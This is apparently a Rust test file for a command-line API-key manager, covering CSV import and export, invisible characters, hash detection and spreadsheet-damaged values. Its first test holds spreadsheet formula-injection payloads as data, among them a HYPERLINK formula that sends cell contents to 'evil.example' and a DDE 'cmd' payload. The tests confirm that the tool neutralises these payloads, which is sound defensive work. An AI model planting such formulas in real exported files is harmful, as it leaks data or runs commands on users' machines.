//! Tables as spreadsheets make and open them, and files as other programs write them.

use super::world::{Account, server};

fn read(account: &Account, name: &str) -> String {
    std::fs::read_to_string(account.dir().join(name)).unwrap()
}

#[test]
fn a_spreadsheet_calculates_nothing_of_a_tokens_file_and_it_reads_back_as_it_was() {
    let account = Account::admin();
    account.done("tenant create formulas");
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&E2)",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(E1:E9)",
        "x;=1+1",
        "＝1+1",
        "'=quoted",
        "it's plain",
    ];
    let mut table = "name,owner\n".to_owned();
    for name in names {
        table += &format!("\"{}\",@owner\n", name.replace('"', "\"\""));
    }
    // As a table of ours holds the name that begins with a mark.
    table = table.replace("\"'=quoted\"", "\"''=quoted\"");
    account.file("keys.csv", &table);
    account.done("key create formulas --csv keys.csv --tokens-file tokens.csv");
    let tokens = read(&account, "tokens.csv");
    let mut cells = csv::ReaderBuilder::new().from_reader(tokens.as_bytes());
    for row in cells.records() {
        for cell in &row.unwrap() {
            // What a program with another separator sees are cells too.
            for part in cell.split([';', '|']) {
                assert!(!part.starts_with(['=', '+', '-', '@', '＝']), "{cell}");
            }
        }
    }
    let mut list: Vec<String> = account.run("key list formulas -o json").json()["keys"]
        .as_array()
        .unwrap()
        .iter()
        .map(|key| key["display_name"].as_str().unwrap().to_owned())
        .collect();
    list.sort();
    let mut expected = names.map(str::to_owned).to_vec();
    expected.sort();
    assert_eq!(list, expected, "nothing was added to a name");
    // A second tenant is given the keys of the file: the names are those that they were.
    account.done("tenant create formulas-b");
    let again = tokens.lines().map(|line| {
        let mut cells = line.splitn(3, ',');
        let rest = cells.nth(2).unwrap();
        rest.rsplit_once(',').unwrap().0.to_owned() + "\n"
    });
    account.file("again.csv", &again.collect::<String>());
    let made = account
        .run("key create formulas-b --csv again.csv -o json")
        .json();
    let mut list: Vec<&str> = made["keys"]
        .as_array()
        .unwrap()
        .iter()
        .map(|made| made["key"]["display_name"].as_str().unwrap())
        .collect();
    list.sort_unstable();
    assert_eq!(list, expected);
}

#[test]
fn names_do_not_hold_what_hides_or_reorders_text() {
    let account = Account::admin();
    account.done("tenant create hidden");
    for hidden in [
        '\u{ad}',
        '\u{61c}',
        '\u{180e}',
        '\u{206a}',
        '\u{fff9}',
        '\u{feff}',
        '\u{e0041}',
        '\u{3164}',
        '\u{9b}',
        '\u{202e}',
        '\u{e000}',
    ] {
        for line in [
            format!("key create hidden --name 'a{hidden}b'"),
            format!("key create hidden --name a --description 'a{hidden}b'"),
            format!("tenant create hidden-b --display-name 'a{hidden}b'"),
            format!("tenant update hidden --metadata 'a=a{hidden}b'"),
            format!("key revoke-all hidden --yes --reason 'a{hidden}b'"),
        ] {
            let ended = account.run(&line);
            assert_eq!(ended.code, Some(1), "{hidden:?}: {ended:?}");
            assert!(ended.err.contains("invisible characters"), "{ended:?}");
            assert!(!ended.err.contains(hidden), "{ended:?}");
        }
        account.file("keys.csv", &format!("name\na{hidden}b\n"));
        let ended = account.run("key create hidden --csv keys.csv -o json");
        assert!(ended.err.contains("line 2: name must be"), "{ended:?}");
    }
}

#[test]
fn a_table_is_read_with_the_separator_and_line_ends_that_its_program_writes() {
    let account = Account::admin();
    let plain = "name,token\nA {n},separated-token-{n}a\nB {n},separated-token-{n}b\n";
    for (n, change) in [
        |text: &str| text.replace(',', ";"),
        |text: &str| text.replace(',', "\t"),
        |text: &str| text.replace(',', "|"),
        |text: &str| "sep=;\r\n".to_owned() + &text.replace(',', ";"),
        |text: &str| "\u{feff}".to_owned() + &text.replace('\n', "\r\n"),
        |text: &str| text.replace('\n', "\r"),
        |text: &str| text.replace('\n', ",,\n") + ",,,\n\n",
    ]
    .into_iter()
    .enumerate()
    {
        account.done(&format!("tenant create separators-{n}"));
        account.file("keys.csv", &change(&plain.replace("{n}", &n.to_string())));
        let ended = account.run(&format!("key import separators-{n} --csv keys.csv"));
        assert_eq!(ended.code, Some(0), "{n}: {ended:?}");
        assert!(ended.out.starts_with("2 imported"), "{n}: {ended:?}");
    }
    let utf16: Vec<u8> = "\u{feff}name\ttoken\r\n"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    std::fs::write(account.dir().join("keys.csv"), utf16).unwrap();
    let ended = account.run("key import separators-0 --csv keys.csv");
    assert!(
        ended
            .err
            .contains("keys.csv is UTF-16 text: save it as UTF-8"),
        "{ended:?}"
    );
}

#[test]
fn a_mistake_is_told_with_the_line_that_an_editor_shows() {
    let account = Account::admin();
    for (text, line) in [
        ("name,token\nok,aaaa-bbbb-cccc-dddd\nbad,x\n", 3),
        ("name,token\r\nok,aaaa-bbbb-cccc-dddd\r\nbad,x\r\n", 3),
        ("name,token\rok,aaaa-bbbb-cccc-dddd\rbad,x\r", 3),
        (
            "sep=;\r\nname;token\r\nok;aaaa-bbbb-cccc-dddd\r\nbad;x\r\n",
            4,
        ),
        (
            "name,token\r\n\r\n\r\nok,aaaa-bbbb-cccc-dddd\r\n\r\nbad,x\r\n",
            6,
        ),
        (
            "name,token,description\r\nok,aaaa-bbbb-cccc-dddd,\"two\r\nlines\"\r\nbad,x,\r\n",
            4,
        ),
    ] {
        account.file("keys.csv", text);
        for command in [
            "key import lines --csv keys.csv",
            "key import lines --csv - ",
        ] {
            let ended = account.run_with(command, text);
            let told = format!("line {line}: token must be");
            assert!(ended.err.contains(&told), "{text:?}: {ended:?}");
        }
    }
    account.file("keys.csv", "name,token\r\na\r\nb,c,d\r\n");
    let ended = account.run("key import lines --csv keys.csv");
    for told in [
        "2 mistakes",
        "line 2: has 1 cells, but the first line names 2 columns",
        "line 3: has 3 cells, but the first line names 2 columns",
    ] {
        assert!(ended.err.contains(told), "{ended:?}");
    }
}

#[test]
fn what_a_system_keeps_of_its_tokens_does_not_become_keys() {
    let account = Account::admin();
    account.done("tenant create digests");
    // SHA-256 of "one" and "two"; the same in base64; a Secret's base64 of two tokens.
    for (first, second, said) in [
        (
            "7692c3ad3540bb803c020b3aee66cd8887123234ea0c6e7143c0add73ff431ed",
            "3fc4ccfe745870e2c0d99f71f30ff0656c8dedd41cc1d7d3d376b0dbe685e2f3",
            "a SHA-256 hash",
        ),
        (
            "dpLDrTVAu4A8AgsK7mbNiIcSMjTqDG5xQ8Ct1z/0Me0=",
            "P8TM/nRYcOLA2Z9x8w/wZWyN7dQcwdfT03aw2+aF4vM=",
            "a hash in base64",
        ),
        (
            "bGVnYWN5LXRva2VuLW9uZQ==",
            "bGVnYWN5LXRva2VuLXR3bw==",
            "base64 of a text",
        ),
    ] {
        account.file("keys.csv", &format!("name,token\na,{first}\nb,{second}\n"));
        account.file("one.txt", first);
        for line in [
            "key import digests --csv keys.csv",
            "key import digests --name a --token-file one.txt",
        ] {
            let ended = account.run(line);
            assert_eq!(ended.code, Some(1), "{ended:?}");
            assert!(
                ended.err.contains(said) && ended.err.contains("--tokens-are-plain"),
                "{ended:?}"
            );
            assert!(!ended.err.contains(first), "{ended:?}");
        }
        assert_eq!(account.done("key list digests"), "no keys\n");
    }
    for hash in [
        "$2b$12$KIXQ7Vw1m9u8aBcDeFgHiO",
        "$argon2id$v=19$m=65536$c2FsdA$aGFzaA",
        "{SSHA}c2FsdGhhc2hoYXNo",
    ] {
        account.file("keys.csv", &format!("name,token\na,\"{hash}\"\n"));
        let ended = account.run("key import digests --csv keys.csv --tokens-are-plain");
        assert!(ended.err.contains("is the hash of a password"), "{ended:?}");
    }
}

#[test]
fn tokens_that_look_like_hashes_are_imported_when_clients_send_them() {
    let account = Account::admin();
    account.done("tenant create plain-hex");
    let hex = "0d51fa7bbf4d6a5b8f7a0c9e1d2b3c4f";
    account.file(
        "keys.csv",
        &format!("name,token\na,{hex}\nb,token-of-the-hex-system\n"),
    );
    let mixed = account.run("key import plain-hex --csv keys.csv");
    assert_eq!(mixed.code, Some(0), "{mixed:?}");
    assert!(
        mixed.err.contains("warning: 1 of 2 tokens look like"),
        "{mixed:?}"
    );
    account.file("one.txt", "0d51fa7bbf4d6a5b8f7a0c9e1d2b3c40");
    account.done("key import plain-hex --name c --token-file one.txt --tokens-are-plain");
    account.done("key verify --token-file one.txt");
}

#[test]
fn what_a_spreadsheet_has_changed_is_not_imported() {
    let account = Account::admin();
    for (row, said) in [
        (
            "a,1.23456789012346E+31,",
            "token is a number that a spreadsheet has cut",
        ),
        (
            "a,12345678901234500000,",
            "token is a number of which a spreadsheet has kept 15 digits",
        ),
        (
            "a,########,",
            "token is what a spreadsheet shows for an error",
        ),
        ("a,2026-01-31T00:00:00Z,", "token is a date or a time"),
        (
            "#REF!,token-of-the-old-system,",
            "name is what a spreadsheet shows for an error",
        ),
        (
            "a,token-of-the-old-system,1.23457E+12",
            "owner is a number that a spreadsheet has cut",
        ),
    ] {
        account.file("keys.csv", &format!("name,token,owner\n{row}\n"));
        let ended = account.run("key import damaged --csv keys.csv");
        assert!(
            ended.err.contains(&format!("line 2: {said}")),
            "{row}: {ended:?}"
        );
    }
    account.file("one.txt", "1.23456789012346E+31");
    let ended = account.run("key import damaged --name a --token-file one.txt");
    assert!(
        ended
            .err
            .contains("the token is a number that a spreadsheet has cut"),
        "{ended:?}"
    );
}

#[test]
fn a_file_with_the_api_key_may_have_a_byte_order_mark_and_says_what_else_is_in_the_way() {
    let token = &server().admin_token;
    let account = Account::new().with("KEYSTILE_ADDR", &super::world::admin());
    let run = |bytes: &[u8]| {
        let path = account.dir().join("key");
        std::fs::write(&path, bytes).unwrap();
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o600))
            .unwrap();
        account.run("tenant list -o name --api-key-file key")
    };
    for good in [
        format!("\u{feff}{token}\r\n"),
        format!("{token}\n"),
        token.clone(),
    ] {
        let ended = run(good.as_bytes());
        assert_eq!(ended.code, Some(0), "{ended:?}");
    }
    for (text, said) in [
        (format!("\"{token}\"\n"), "key is in quotes"),
        (format!("'{token}'"), "key is in quotes"),
        (
            format!("Bearer {token}"),
            "key has the name of a header or a scheme before it",
        ),
        (
            format!("KEYSTILE_API_KEY={token}"),
            "key has the name of a variable before it",
        ),
        (format!("{{\"plaintext\": \"{token}\"}}"), "key is JSON"),
        (format!("{token}\n{token}\n"), "one line"),
    ] {
        let ended = run(text.as_bytes());
        assert_eq!(ended.code, Some(1), "{ended:?}");
        assert!(
            ended.err.contains(said) && !ended.err.contains(token.as_str()),
            "{ended:?}"
        );
    }
    let utf16: Vec<u8> = token.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let ended = run(&utf16);
    assert!(ended.err.contains("key is UTF-16 text"), "{ended:?}");
    let quoted = account
        .with("KEYSTILE_API_KEY", &format!("\"{token}\""))
        .run("tenant list");
    assert!(
        quoted.err.contains("KEYSTILE_API_KEY is in quotes"),
        "{quoted:?}"
    );
}
